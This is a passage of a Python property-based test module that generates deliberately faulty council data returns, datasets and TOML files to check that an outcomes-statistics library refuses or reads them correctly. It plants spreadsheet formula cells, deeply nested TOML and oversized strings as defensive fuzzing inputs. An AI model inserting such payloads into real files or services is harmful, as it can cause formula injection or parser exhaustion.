    return str(int(value)) if value.is_integer() else repr(value)


def number_spellings(value: float) -> list[str]:
    """Ways a council writes ``value`` that must all be read as exactly ``value``."""
    from decimal import Decimal

    plain = plain_number(value)
    whole, _, fraction = plain.partition(".")
    spellings = [
        plain, f" {plain} ", f"{plain}\u00a0", f"'{plain}", f"+{plain}", f"£{plain}", f"0{plain}",
        f"{Decimal(plain):e}", plain + ("0" if fraction else ".0"),
    ]  # fmt: skip
    if abs(value) >= 1000:
        commas = f"{int(whole):,}" + (f".{fraction}" if fraction else "")
        spellings += [commas, commas.replace(",", " "), f"£{commas}"]
    if value.is_integer() and abs(value) >= 1_000_000:
        spellings.append(f"{int(value):,}".replace(",", "."))
    return spellings


#: A row of the tidy dataset: ``(area, period, item, value, flag)``, value NaN when empty.
TidyRow = tuple[str, str, str, float, str]


@functools.cache
def example_rows() -> tuple[TidyRow, ...]:
    """The bundled example dataset, row by row."""
    import csv

    from outcomes.core._resources import bundled_path

    with (bundled_path("example") / "data.csv").open(encoding="utf-8", newline="") as stream:
        return tuple(
            (row["area"], row["period"], row["item"],
             float(row["value"]) if row["value"] else math.nan, row["flag"])
            for row in csv.DictReader(stream)
        )  # fmt: skip


@functools.cache
def example_areas() -> tuple[tuple[str, str, str], ...]:
    """The bundled example areas as ``(area, name, family_group)``."""
    import csv

    from outcomes.core._resources import bundled_path

    with (bundled_path("example") / "areas.csv").open(encoding="utf-8", newline="") as stream:
        return tuple(
            (row["area"], row["name"], row["family_group"]) for row in csv.DictReader(stream)
        )


def example_block(areas: Sequence[str], first_year: int) -> list[TidyRow]:
    """The example's rows of ``areas`` for the return year starting in ``first_year``: the
    split-year label and the calendar year."""
    labels = {str(first_year), f"{first_year}-{(first_year + 1) % 100:02d}"}
    return [row for row in example_rows() if row[0] in areas and row[1] in labels]


def file_stem(area: str) -> str:
    """A plain file-name stem for an area (the library's own slug is tested elsewhere)."""
    return "".join(c if c.isalnum() else "-" for c in area.lower()).strip("-") or "area"


#: The columns of the tidy layout, in order.
TIDY = ("area", "period", "item", "value", "flag")
#: What a planted row must read as: its own tidy row, a refusal, or anything at all.
EXACT, REFUSE, ANY = "exact", "refuse", "any"
_FLAGS = ("provisional", "estimated", "revised", "not_collected")


class XlsxFormula(str):
    """A cell written to a workbook as a formula with no saved result (as a CSV: its text)."""

    __slots__ = ()


class ShortRepr:
    """Shown in Hypothesis' reports by its ``repr``, not field by field (a case has hundreds
    of rows or megabytes of text)."""

    def _repr_pretty_(self, printer: Any, cycle: bool) -> None:
        printer.text(repr(self))


@dataclasses.dataclass
class HostileSheet:
    """One sheet of a hostile return (a CSV file has one, titled ``""``): its records as
    written, header included; an empty record is an empty row."""

    title: str
    records: list[list[object]]
    hidden: bool = False


@dataclasses.dataclass
class HostileFile:
    """One file of a hostile return. ``damage`` breaks it as it is written: ``truncate``
    cuts a workbook in half, ``utf16`` writes a CSV as UTF-16, ``double_bom`` puts a second
    byte-order mark before the header, ``empty`` writes no bytes at all."""

    name: str
    kind: str
    sheets: list[HostileSheet]
    encoding: str = "utf-8"
    newline: str = "\n"
    damage: str = ""


@dataclasses.dataclass
class PlantedRow:
    """A data row as planted: where it is (file, sheet, row as a person sees it), the tidy
    row it holds, and what reading it must give (:data:`EXACT`, :data:`REFUSE`, :data:`ANY`)."""

    file: str
    sheet: str
    row: int
    area: str
    period: str
    item: str
    value: float
    flag: str
    expect: str
    fault: str = ""


@dataclasses.dataclass
class HostileReturn(ShortRepr):
    """The files of one return in the tidy layout, every data row planted in them, the faults
    planted, whether they must make validation refuse the return, and whether validation is
    given the areas file."""

    files: list[HostileFile]
    rows: list[PlantedRow]
    faults: list[str]
    must_refuse: bool
    with_areas: bool

    def __repr__(self) -> str:
        # Short: the planted faults and where they are, not the hundred rows.
        faulty = [(r.file, r.sheet, r.row, r.fault, r.expect) for r in self.rows if r.fault]
        files = [(f.name, f.encoding, repr(f.newline), f.damage) for f in self.files]
        return (f"HostileReturn(files={files}, faults={self.faults}, planted={faulty}, "
                f"must_refuse={self.must_refuse}, with_areas={self.with_areas})")  # fmt: skip


@dataclasses.dataclass
class _Draft:
    """A row of a return being built: its cells, the tidy row it stands for, where it goes
    (file, sheet), and what reading it must give."""

    cells: dict[str, object]
    truth: TidyRow
    place: tuple[int, int]
    expect: str = EXACT
    fault: str = ""
    tail: bool = False


_RETURN_ROW_FAULTS = (
    "value_trap", "value_empty", "value_negative", "value_not_collected", "value_formula",
    "value_date", "value_bool", "flag_trap", "area_trap", "period_trap", "item_trap",
    "duplicate_row", "dropped_row", "garbage_row", "conflict", "agreeing_copy",
)  # fmt: skip
_RETURN_SHEET_FAULTS = (
    "missing_column", "duplicate_column", "no_flag_column", "extra_column", "header_spelling",
    "blank_rows", "leading_blank_rows", "title_row", "numeric_cells", "hostile_sheet_title",
)  # fmt: skip
_RETURN_FILE_FAULTS = ("double_bom", "cp1252", "crlf", "cr", "bom", "utf16", "truncate",
                       "empty_file", "instructions_sheet", "hidden_sheet",
                       "hidden_sheet")  # fmt: skip
_BAD_PERIODS = ("2024-26", "24/25", "FY2024", "\uff12\uff10\uff12\uff14-\uff12\uff15",
                "2024/25", "2024-2025", "0-01")  # fmt: skip


def xlsx_safe(text: str) -> str:
    """``text`` without the control characters XML 1.0 cannot hold (no workbook carries
    them: openpyxl refuses to write them)."""
    return "".join(c for c in text if not ("\x00" <= c < " " and c not in "\t\n\r"))


def _is_flag(text: str) -> bool:
    """Whether a flag cell reads as a flag or as no flag at all."""
    return tidy_text(text).lower().removeprefix("'") in ("", *_FLAGS)


def _forms(text: str) -> tuple[str, str]:
    """A cell's text as a CSV holds it and as a workbook can (without XML's control
    characters): a fault must be one in both."""
    return text, xlsx_safe(text)


def _plant_cell(draw: st.DrawFn, fault: str, row: _Draft, *, with_areas: bool) -> str | None:
    """Plant a fault in one cell of ``row``; what reading the row must then give, or None
    when the fault does not fit the row."""
    from outcomes import parse_period
    from outcomes.errors import PeriodError

    area, period, item, value, _flag = row.truth
    cells = row.cells
    expect = REFUSE
    if fault == "value_trap":
        cells["value"] = draw(value_traps)
    elif fault == "value_empty":
        cells["value"], cells["flag"] = draw(st.sampled_from(["", " ", "'"])), ""
    elif fault == "value_negative" and value > 0:
        cells["value"] = f"-{plain_number(value)}"
    elif fault == "value_not_collected":
        cells["flag"] = "not_collected"
    elif fault == "value_formula":
        cells["value"] = XlsxFormula(draw(st.sampled_from(["=1+1", "=SUM(A1:A3)", "=1/0"])))
    elif fault == "value_date":
        cells["value"] = dt.datetime(int(period[:4]), 3, 31)
    elif fault == "value_bool":
        cells["value"] = draw(st.booleans())
    elif fault == "flag_trap":
        cells["flag"] = draw(hostile_texts.filter(lambda t: not any(map(_is_flag, _forms(t)))))
    elif fault == "area_trap":
        text = draw(hostile_texts.filter(lambda t: all(tidy_text(f) != area for f in _forms(t))))
        cells["area"] = text
        known = {known_area for known_area, _, _ in example_areas()}
        unknown = all(tidy_text(form) not in known for form in _forms(text))
        expect = REFUSE if with_areas and unknown else ANY
    elif fault == "period_trap":
        cells["period"] = text = draw(st.one_of(hostile_texts, st.sampled_from(_BAD_PERIODS)))
        for form in _forms(text):
            try:
                parse_period(tidy_text(form))
            except PeriodError:
                continue
            expect = ANY  # another real period: a different row, judged on its own
    elif fault == "item_trap":
        text = draw(st.one_of(hostile_texts, st.just(item[:-1]), st.just(item.upper())))
        cells["item"] = text
        if any(tidy_text(form) in load_catalogue().items for form in _forms(text)):
            expect = ANY
    else:
        return None
    return expect


def _plant_row_fault(
    draw: st.DrawFn, fault: str, row: _Draft, *, drafts: list[_Draft],
    places: list[tuple[int, int]], with_areas: bool,
) -> bool:  # fmt: skip
    """Plant ``fault`` in ``row`` or beside it; whether a row was dropped."""
    if row.fault or (fault.startswith("value") and math.isnan(row.truth[3])):
        return False  # one fault a row; value faults only where there is a value
    if fault in ("duplicate_row", "conflict", "agreeing_copy"):
        copy = dataclasses.replace(row, cells=dict(row.cells), fault=fault, tail=True)
        if fault == "conflict":
            copy.cells["value"] = plain_number(row.truth[3] + 1)
            others = [place for place in places if place != row.place]
            copy.place = draw(st.sampled_from(others)) if others else (-1, 0)
            copy.expect = row.expect = REFUSE
        elif fault == "duplicate_row":
            copy.expect = REFUSE
        else:
            others = [place for place in places if place[0] != row.place[0]]
            copy.place = draw(st.sampled_from(others)) if others else row.place
            copy.expect = EXACT if others else REFUSE
        # The row keeps its key from now on, so that the copy stays a copy.
        row.fault = row.fault or f"copied ({fault})"
        drafts.append(copy)
    elif fault == "dropped_row":
        if all(other is row or other.truth[:3] != row.truth[:3] for other in drafts):
            drafts.remove(row)
            return True
    elif fault == "garbage_row":
        garbage = draw(st.lists(hostile_texts, min_size=3, max_size=7))
        garbage[2] = "x" + garbage[2]  # never a real item
        drafts.append(_Draft(cells=dict(zip([*TIDY, "notes"], garbage, strict=False)),
                             truth=("", "", "", math.nan, ""), place=row.place, expect=REFUSE,
                             fault=fault, tail=True))  # fmt: skip
    else:
        expect = _plant_cell(draw, fault, row, with_areas=with_areas)
        if expect is not None:
            row.expect, row.fault = expect, fault
    return False


def _header(draw: st.DrawFn, columns: list[str], faults: list[str]) -> list[str]:
    header = list(columns)
    if "missing_column" in faults:
        gone = draw(st.sampled_from([c for c in TIDY[:4] if c in columns]))
        header[columns.index(gone)] = draw(st.sampled_from(["", "valeu", "Area code", gone + "s"]))
    if "header_spelling" in faults:
        header = [draw(st.sampled_from([h, h.upper(), f" {h.title()} ", f"{h}\u00a0"]))
                  for h in header]  # fmt: skip
    return header


def _cells_as_written(
    file: HostileFile, draft: _Draft, columns: list[str], numeric: bool
) -> list[object]:
    written = [draft.cells.get(column, "") for column in columns]
    if file.kind == "csv":
        return [cell if isinstance(cell, str) else str(cell) for cell in written]
    written = [
        c if isinstance(c, XlsxFormula) or not isinstance(c, str) else xlsx_safe(c) for c in written
    ]
    value = draft.truth[3]
    if numeric and "value" in columns and not draft.fault and not math.isnan(value):
        written[columns.index("value")] = int(value) if value.is_integer() else value
    return written


def _sheet_records(
    draw: st.DrawFn, file: HostileFile, sheet: HostileSheet, drafts: list[_Draft],
    *, faults: list[str], title: str,
) -> tuple[list[list[object]], list[PlantedRow]]:  # fmt: skip
    """Lay out one sheet: its header (with the sheet's faults) and its rows, each numbered
    as a person sees it."""
    columns = list(TIDY)
    if "double_bom" not in faults and draw(st.integers(0, 3)) == 0:
        columns = list(draw(st.permutations(columns)))
    if "no_flag_column" in faults:
        columns.remove("flag")
    header = _header(draw, columns, faults)
    if "duplicate_column" in faults:
        named = [c for c, h in zip(columns, header, strict=True) if tidy_text(h).lower() == c]
        columns.append(draw(st.sampled_from(named)))
        header.append(columns[-1].upper())
    if "extra_column" in faults:
        columns.append("notes")
        name = draw(hostile_texts.filter(lambda h: tidy_text(h).lower() not in TIDY))
        header.append(name or "notes")
        for draft in drafts:
            draft.cells["notes"] = draw(hostile_texts)
    if file.kind == "xlsx":
        header = [xlsx_safe(name) for name in header]
    records: list[list[object]] = []
    if "leading_blank_rows" in faults:
        records += [[] for _ in range(draw(st.integers(1, 3)))]
    if "title_row" in faults:
        records += [[f"Return for {title}"], []]
    records.append(list(header))
    planted: list[PlantedRow] = []
    for draft in drafts:
        if "blank_rows" in faults and draw(st.integers(0, 9)) == 0:
            records.append([])
        records.append(_cells_as_written(file, draft, columns, "numeric_cells" in faults))
        area, period, item, value, flag = draft.truth
        expect = draft.expect
        if "no_flag_column" in faults:
            flag = ""
            if draft.fault in ("flag_trap", "value_not_collected"):
                expect = EXACT  # the fault was in the column that is not there
            if math.isnan(value) and expect == EXACT:
                expect = REFUSE  # not collected, but the flag that says so is gone
        planted.append(PlantedRow(file=file.name, sheet=sheet.title, row=len(records),
                                  area=area, period=period, item=item, value=value, flag=flag,
                                  expect=expect, fault=draft.fault))  # fmt: skip
    return records, planted


def _sheet_title(draw: st.DrawFn, file: HostileFile) -> str | None:
    """A hostile sheet title a workbook can hold, or None."""
    title = xlsx_safe("".join(c for c in draw(hostile_texts) if c not in "[]:*?/\\'"))
    title = title[:31].strip()
    taken = {sheet.title.lower() for sheet in file.sheets} | {"instructions", "history"}
    return title if title and title.lower() not in taken else None


@st.composite
def hostile_returns(draw: st.DrawFn) -> HostileReturn:
    """A return of one or two real areas for a real year in the tidy layout, spread over
    CSV and XLSX files and sheets, spelled in the ways councils spell things, with faults
    planted in rows, sheets and files (sometimes none)."""
    areas_table = example_areas()
    year = draw(st.integers(min_value=2016, max_value=2024))
    chosen = draw(st.lists(st.sampled_from([a for a, _, _ in areas_table]), min_size=1,
                           max_size=2, unique=True))  # fmt: skip
    with_areas = draw(st.booleans())
    every = _RETURN_ROW_FAULTS + _RETURN_SHEET_FAULTS + _RETURN_FILE_FAULTS
    faults = draw(st.lists(st.sampled_from(every), max_size=4))

    files: list[HostileFile] = []
    for n in range(draw(st.integers(min_value=1, max_value=3))):
        kind = draw(st.sampled_from(["csv", "xlsx"]))
        count = draw(st.integers(min_value=1, max_value=2)) if kind == "xlsx" else 1
        titles = [""] if kind == "csv" else ["Return", "Return 2"][:count]
        sheets = [HostileSheet(title=title, records=[]) for title in titles]
        files.append(HostileFile(name=f"{file_stem(chosen[0])}-{n + 1}.{kind}", kind=kind,
                                 sheets=sheets))  # fmt: skip
    places = [(f, s) for f, file in enumerate(files) for s in range(len(file.sheets))]
    # A hidden sheet holding the whole return of the second area: read like any other sheet.
    hidden: tuple[int, int] | None = None
    if "hidden_sheet" in faults:
        others = [a for a, _, _ in areas_table if a not in chosen]
        chosen = [chosen[0], draw(st.sampled_from(others))] if len(chosen) == 1 else chosen
        if files[0].kind == "csv":  # one sheet either way, so the places stay
            files[0] = HostileFile(name=files[0].name.replace(".csv", ".xlsx"), kind="xlsx",
                                   sheets=[HostileSheet("Return", [])])  # fmt: skip
    workbooks = [f for f, file in enumerate(files) if file.kind == "xlsx"]
    if "hidden_sheet" in faults and workbooks:
        sheets = files[workbooks[0]].sheets
        sheets.append(HostileSheet(title="Lookup", records=[], hidden=True))
        hidden = (workbooks[0], len(sheets) - 1)

    drafts: list[_Draft] = []
    for area, period, item, value, flag in example_block(chosen, year):
        spelled_flag = draw(st.sampled_from([flag, flag.upper(), f" {flag.title()} "]))
        cells: dict[str, object] = {
            "area": draw(st.sampled_from([area, area, f" {area} ", area.replace(" ", "\u00a0")])),
            "period": draw(st.sampled_from([period, period, f"{period} "])),
            "item": draw(st.sampled_from([item, item, f" {item}"])),
            "value": draw(st.sampled_from(["", "'", "  "] if math.isnan(value)
                                          else number_spellings(value))),
            "flag": spelled_flag if flag else "",
        }  # fmt: skip
        place = hidden if hidden and area == chosen[1] else draw(st.sampled_from(places))
        drafts.append(_Draft(cells=cells, truth=(area, period, item, value, flag), place=place))
    drafts = list(draw(st.permutations(drafts)))
    at_sheet: dict[tuple[int, int], list[str]] = {}
    at_file: dict[int, list[str]] = {}
    dropped = False
    for fault in faults:
        if fault in _RETURN_SHEET_FAULTS:
            at_sheet.setdefault(draw(st.sampled_from(places)), []).append(fault)
        elif fault in _RETURN_FILE_FAULTS:
            at_file.setdefault(draw(st.integers(0, len(files) - 1)), []).append(fault)
        elif visible := [d for d in drafts if d.place != hidden]:
            target = visible[draw(st.integers(0, len(visible) - 1))]
            dropped |= _plant_row_fault(draw, fault, target, drafts=drafts, places=places,
                                        with_areas=with_areas)  # fmt: skip
    if any(draft.place == (-1, 0) for draft in drafts):
        files.append(HostileFile(name=f"{file_stem(chosen[0])}-conflict.csv", kind="csv",
                                 sheets=[HostileSheet(title="", records=[])]))  # fmt: skip
        for draft in drafts:
            if draft.place == (-1, 0):
                draft.place = (len(files) - 1, 0)

    planted: list[PlantedRow] = []
    must_refuse = dropped  # a missing item
    for f, file in enumerate(files):
        file_faults = at_file.get(f, [])
        for s, sheet in enumerate(file.sheets):
            sheet_faults = at_sheet.get((f, s), []) + file_faults
            if "hostile_sheet_title" in sheet_faults and file.kind == "xlsx":
                sheet.title = _sheet_title(draw, file) or sheet.title
            here = [d for d in drafts if d.place == (f, s) and not d.tail]
            here += [d for d in drafts if d.place == (f, s) and d.tail]
            sheet.records, rows = _sheet_records(draw, file, sheet, here, faults=sheet_faults,
                                                 title=chosen[0])  # fmt: skip
            planted += rows
            must_refuse |= any(fault in sheet_faults for fault in
                               ("missing_column", "duplicate_column", "title_row"))  # fmt: skip
        if file.kind == "csv":
            if "cp1252" in file_faults and _encodes(file, "cp1252"):
                file.encoding = "cp1252"
            if "bom" in file_faults:
                file.encoding = "utf-8-sig"
            newlines = [n for fault, n in (("crlf", "\r\n"), ("cr", "\r")) if fault in file_faults]
            file.newline = newlines[0] if newlines else "\n"
            for damage in ("double_bom", "utf16"):
                if damage in file_faults:
                    file.damage = damage
            # A NUL makes a CSV binary data, refused as a whole.
            must_refuse |= any("\x00" in str(cell) for sheet in file.sheets
                               for record in sheet.records for cell in record)  # fmt: skip
        elif "truncate" in file_faults:
            file.damage = "truncate"
        elif "instructions_sheet" in file_faults:
            records: list[list[object]] = [
                [xlsx_safe(text) for text in draw(st.lists(hostile_texts, max_size=5))]
                for _ in range(3)
            ]
            file.sheets.append(HostileSheet(title="Instructions", records=records))
        if "empty_file" in file_faults:
            file.damage = "empty"
        must_refuse |= file.damage != ""
    must_refuse |= any(row.expect == REFUSE for row in planted)
    # A key changed to another real one leaves the row's own item missing from its block.
    must_refuse |= any(d.fault in ("area_trap", "period_trap", "item_trap") for d in drafts)
    return HostileReturn(files=files, rows=planted, faults=faults, must_refuse=must_refuse,
                         with_areas=with_areas)  # fmt: skip


def _encodes(file: HostileFile, encoding: str) -> bool:
    try:
        for sheet in file.sheets:
            for record in sheet.records:
                for cell in record:
                    str(cell).encode(encoding)
    except UnicodeEncodeError:
        return False
    return True


# --- Hostile tidy datasets ---------------------------------------------------------------------


@dataclasses.dataclass
class FaultyDataset(ShortRepr):
    """A tidy ``data.csv`` with faults (its text, encoding and every data row planted, in file
    ``data.csv``), and how it is computed: the areas table (None for none), deflators, the
    base period, the confidence and the suppression threshold."""

    text: str
    encoding: str
    rows: list[PlantedRow]
    areas: list[tuple[str, str, str]] | None
    deflators: dict[str, float] | None
    base_period: str | None
    confidence: float
    suppress_below: int | None
    faults: list[str]

    def __repr__(self) -> str:
        faulty = [(r.row, r.area, r.period, r.item, r.fault) for r in self.rows if r.fault][:20]
        return (f"FaultyDataset(faults={self.faults}, planted={faulty}, rows={len(self.rows)}, "
                f"areas={self.areas!r:.300}, deflators={self.deflators is not None}, "
                f"base_period={self.base_period!r}, confidence={self.confidence}, "
                f"suppress_below={self.suppress_below}, encoding={self.encoding!r})")  # fmt: skip


_DATASET_FAULTS = (
    "value_trap", "zero_row", "zero_item", "numerator_above", "negative", "huge_row",
    "huge_item", "tiny", "tiny", "tiny", "zero_row", "huge_row", "drop_rows", "drop_item",
    "not_collected", "duplicate_row",
    "unknown_item", "reserved_area", "payload_area", "wrong_period_kind", "bad_period",
    "flag_trap", "missing_column", "duplicate_column", "extra_column", "header_spelling",
    "bom", "crlf", "cp1252", "single_row", "all_zero",
)  # fmt: skip


@functools.cache
def proportion_items() -> tuple[tuple[str, str], ...]:
    """``(numerator, denominator)`` of every proportion indicator of the bundled catalogue."""
    return tuple(
        (indicator.numerator, indicator.denominator)
        for indicator in load_catalogue().indicators
        if indicator.measure.value == "proportion" and indicator.denominator
    )


@functools.cache
def denominator_items() -> frozenset[str]:
    """The items some indicator of the bundled catalogue divides by."""
    return frozenset(i.denominator for i in load_catalogue().indicators if i.denominator)


def _dataset_value_fault(draw: st.DrawFn, fault: str, rows: list[_Draft]) -> None:
    """Plant a fault in the values of ``rows`` (each row's truth follows its new cell)."""
    if not rows:
        return
    row = draw(st.sampled_from(rows))
    denominators = [r for r in rows if r.truth[2] in denominator_items()]
    if fault in ("tiny", "zero_row", "huge_row") and denominators and draw(st.booleans()):
        row = draw(st.sampled_from(denominators))  # where a division would be by it
    area, period, item, _value, _flag = row.truth
    if fault == "value_trap":
        row.cells["value"], row.expect, row.fault = draw(value_traps), REFUSE, fault
        return
    if fault in ("zero_item", "huge_item"):
        text = "0" if fault == "zero_item" else draw(st.sampled_from(["1e15", "999999999999999"]))
        targets = [r for r in rows if r.truth[2] == item]
    elif fault == "all_zero":
        text, targets = "0", rows
    elif fault == "numerator_above":
        numerator, denominator = draw(st.sampled_from(proportion_items()))
        same = {r.truth[2]: r for r in rows if r.truth[:2] == (area, period)}
        if numerator not in same or denominator not in same:
            return
        below = same[denominator].truth[3]
        text = plain_number((0.0 if math.isnan(below) else below) + draw(st.integers(1, 10**6)))
        targets = [same[numerator]]
    else:
        text = {"zero_row": "0", "negative": "-5", "huge_row": "999999999999999"}.get(fault, "")
        text = text or draw(st.sampled_from(["5e-324", "1e-310", "1e-300", "0.000001"]))
        targets = [row]
    for target in targets:
        a, p, i, _, f = target.truth
        target.cells["value"] = text
        target.truth = (a, p, i, float(text), "" if f == "not_collected" else f)
        target.cells["flag"] = target.truth[4]
        target.fault = target.fault or fault


def _dataset_row_fault(draw: st.DrawFn, fault: str, rows: list[_Draft]) -> list[_Draft]:
    """Plant a fault that adds, drops, renames or breaks rows; the rows afterwards."""
    if not rows:
        return rows
    row = draw(st.sampled_from(rows))
    area, period, item, value, flag = row.truth
    after = rows
    if fault == "drop_rows":
        after = [r for r in rows if draw(st.integers(0, 9)) > 0]
    elif fault == "drop_item":
        after = [r for r in rows if r.truth[2] != item]
    elif fault == "single_row":
        after = [row]
    elif fault == "duplicate_row":
        after = [*rows, dataclasses.replace(row, cells=dict(row.cells), expect=REFUSE, fault=fault)]
    elif fault == "unknown_item":
        extra = _Draft(cells={**row.cells, "item": "not_an_item"}, place=(0, 0),
                       truth=(area, period, "not_an_item", value, flag), fault=fault)  # fmt: skip
        after = [*rows, extra]
    elif fault in ("reserved_area", "payload_area"):
        reserved = ["Scotland", "family_group:People 1"]
        name = draw(st.sampled_from(reserved if fault == "reserved_area" else _AREA_PAYLOADS))
        for r in rows:
            if r.truth[0] == area:
                r.cells["area"] = name
                r.truth = (tidy_text(name), *r.truth[1:])
                r.expect, r.fault = ANY, fault
    elif fault == "not_collected":
        row.cells["value"], row.cells["flag"] = "", "not_collected"
        row.truth = (area, period, item, math.nan, "not_collected")
    elif fault == "wrong_period_kind":
        other = period[:4] if "-" in period else f"{period}-{(int(period) + 1) % 100:02d}"
        if all(r.truth[:3] != (area, other, item) for r in rows):
            row.cells["period"] = other
            row.truth = (area, other, item, value, flag)
    elif fault == "bad_period":
        row.cells["period"], row.expect = draw(st.sampled_from(_BAD_PERIODS)), REFUSE
    elif fault == "flag_trap":
        row.cells["flag"] = draw(hostile_texts.filter(lambda t: not _is_flag(t)))
        row.expect = REFUSE
    row.fault = row.fault or fault
    return after


@st.composite
def faulty_datasets(draw: st.DrawFn) -> FaultyDataset:
    """A tidy dataset of a few real areas over a few real years, spelled as written by people
    and tools, with faults planted in its values, rows, header and encoding."""
    from outcomes import parse_period

    names = [area for area, _, _ in example_areas()]
    chosen = draw(st.lists(st.sampled_from(names), min_size=1, max_size=5, unique=True))
    first = draw(st.integers(min_value=2015, max_value=2024))
    years = range(first, min(2024, first + draw(st.integers(0, 5))) + 1)
    labels = {label for y in years for label in (str(y), f"{y}-{(y + 1) % 100:02d}")}
    faults = draw(st.lists(st.sampled_from(_DATASET_FAULTS), max_size=5))
    rows = [
        _Draft(cells={"area": area, "period": period, "item": item,
                      "value": "" if math.isnan(value) else draw(st.sampled_from(
                          [plain_number(value), *number_spellings(value)[:3]])),
                      "flag": flag}, truth=(area, period, item, value, flag), place=(0, 0))
        for area, period, item, value, flag in example_rows()
        if area in chosen and period in labels
    ]  # fmt: skip
    for fault in faults:
        if fault in ("value_trap", "zero_row", "zero_item", "numerator_above", "negative",
                     "huge_row", "huge_item", "tiny", "all_zero"):  # fmt: skip
            _dataset_value_fault(draw, fault, rows)
        else:
            rows = _dataset_row_fault(draw, fault, rows)
    columns = list(TIDY)
    header = list(columns)
    if "missing_column" in faults:
        header[draw(st.integers(0, 3))] = "x"
    if "duplicate_column" in faults:
        columns.append(draw(st.sampled_from(TIDY)))
        header.append(columns[-1])
    if "extra_column" in faults:
        columns.append("notes")
        header.append("notes")
    if "header_spelling" in faults:
        header = [draw(st.sampled_from([h, h.upper(), f" {h} "])) for h in header]
    newline = "\r\n" if "crlf" in faults else "\n"
    lines = [",".join(csv_field(h) for h in header)]
    planted: list[PlantedRow] = []
    for row in rows:
        lines.append(",".join(csv_field(str(row.cells.get(c, "=1+1"))) for c in columns))
        area, period, item, value, flag = row.truth
        planted.append(PlantedRow(file="data.csv", sheet="", row=len(lines), area=area,
                                  period=period, item=item, value=value, flag=flag,
                                  expect=row.expect, fault=row.fault))  # fmt: skip
    text = newline.join(lines) + newline
    encoding = "utf-8-sig" if "bom" in faults else "utf-8"
    if "cp1252" in faults:
        try:
            text.encode("cp1252")
            encoding = "cp1252"
        except UnicodeEncodeError:
            pass
    areas_mode = draw(st.sampled_from(["none", "example", "one_group", "own_groups", "payload"]))
    present = sorted({row.truth[0] for row in rows}) or chosen
    table = {area: (area, name, group) for area, name, group in example_areas()}
    areas: list[tuple[str, str, str]] | None = None
    if areas_mode == "example":
        areas = [table.get(area, (area, area, "")) for area in present]
    elif areas_mode == "one_group":
        areas = [(area, area, "All") for area in present]
    elif areas_mode == "own_groups":
        areas = [(area, area, f"Group of {area}") for area in present]
    elif areas_mode == "payload":
        areas = [(area, draw(hostile_texts), draw(st.sampled_from((*FORMULA_PAYLOADS, ""))))
                 for area in present]  # fmt: skip
    deflators: dict[str, float] | None = None
    base_period: str | None = None
    if draw(st.booleans()):
        deflators = {f"{y}-{(y + 1) % 100:02d}": 80.0 + 2 * (y - 2015) for y in range(2010, 2025)}
        if draw(st.booleans()):
            deflators.pop(draw(st.sampled_from(sorted(deflators))))
        base_period = draw(st.sampled_from([*sorted(labels), "2030-31", "2009-10"]))
        parse_period(base_period)
    return FaultyDataset(
        text=text, encoding=encoding, rows=planted, areas=areas, deflators=deflators,
        base_period=base_period,
        confidence=draw(st.sampled_from([0.5, 0.8, 0.9, 0.95, 0.99, 0.999, 0.9999])),
        suppress_below=draw(st.sampled_from([None, 0, 1, 5, 10**9])), faults=faults,
    )  # fmt: skip


def csv_field(text: str) -> str:
    """One CSV cell, quoted when it holds a comma, a quote or a line break of either kind."""
    if any(c in text for c in ',"\r\n'):
        return '"' + text.replace('"', '""') + '"'
    return text


# --- Hostile TOML: assessments and indicator definitions --------------------------------------


class RawToml(str):
    """TOML text written as it is (arrays nested thousands deep, say)."""

    __slots__ = ()


def toml_literal(value: object) -> str:
    """Any value tomllib reads, as TOML: tables inline, dates and times, infinities."""
    if isinstance(value, RawToml):
        return str(value)
    if isinstance(value, dt.datetime | dt.date | dt.time):
        return value.isoformat()
    if isinstance(value, float) and not math.isfinite(value):
        return "nan" if math.isnan(value) else "inf" if value > 0 else "-inf"
    if isinstance(value, list):
        return "[" + ", ".join(toml_literal(element) for element in value) + "]"
    if isinstance(value, dict):
        pairs = (f"{toml_value(str(k))} = {toml_literal(v)}" for k, v in value.items())
        return "{ " + ", ".join(pairs) + " }"
    return toml_value(value)


def toml_text(document: dict[str, object], arrays: Sequence[str] = ()) -> str:
    """A document as TOML: top-level keys one a line, and the arrays named in ``arrays``
    as arrays of tables (``[[indicator]]``)."""
    lines = [f"{toml_value(str(key))} = {toml_literal(value)}"
             for key, value in document.items() if key not in arrays]  # fmt: skip
    for name in arrays:
        entries = document.get(name)
        for entry in entries if isinstance(entries, list) else []:
            lines.append(f"\n[[{name}]]")
            if isinstance(entry, dict):
                lines += [f"{toml_value(str(k))} = {toml_literal(v)}" for k, v in entry.items()]
    return "\n".join(lines) + "\n"


Path_ = tuple[str | int, ...]
"""Where a value is in a TOML document: keys and list positions from the top."""


def toml_paths(document: object, path: Path_ = ()) -> list[Path_]:
    """Every place in a document below the top, containers included."""
    found: list[Path_] = [path] if path else []
    if isinstance(document, dict):
        for key, value in document.items():
            found += toml_paths(value, (*path, key))
    elif isinstance(document, list):
        for position, value in enumerate(document):
            found += toml_paths(value, (*path, position))
    return found


def toml_get(document: object, path: Path_) -> object:
    for step in path:
        document = document[step]  # type: ignore[index]
    return document


def toml_set(document: object, path: Path_, value: object) -> None:
    parent = toml_get(document, path[:-1])
    parent[path[-1]] = value  # type: ignore[index]


def toml_delete(document: object, path: Path_) -> None:
    parent = toml_get(document, path[:-1])
    del parent[path[-1]]  # type: ignore[attr-defined]


#: Values of every TOML type, hostile or not, for retyping a key.
hostile_toml_values: st.SearchStrategy[object] = st.one_of(
    _values,
    hostile_texts,
    st.sampled_from([0, -1, 2**63 - 1, 2**70, -(2**70), 1e308, math.inf, -math.inf, math.nan,
                     True, False, "", " ", [], {}, [[]], {"": ""}]),
    st.dates(min_value=dt.date(1, 1, 1), max_value=dt.date(9999, 12, 31)),
    st.sampled_from([dt.time(12, 30), dt.datetime(2025, 9, 24, 10, 0, tzinfo=dt.UTC),
                     dt.datetime(2025, 9, 24, 10, 0)]),
    st.integers(min_value=2, max_value=3000).map(lambda d: RawToml("[" * d + "]" * d)),
    st.integers(min_value=2, max_value=3000).map(lambda d: RawToml("{a=" * d + "1" + "}" * d)),
    st.integers(min_value=1, max_value=200_000).map(lambda n: "<b>" + "x" * n),
)  # fmt: skip


def _raw_damage(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    """Damage the bytes of a TOML file as an editor or a transfer might; with what was done."""
    import re

    kind = draw(st.sampled_from(["bytes", "truncate", "bom", "crlf", "nul", "bad_date",
                                 "huge"]))  # fmt: skip
    import random

    at = random.Random(draw(st.integers(0, 2**32))).randint(0, len(data))  # not mostly at 0
    if kind == "bytes":
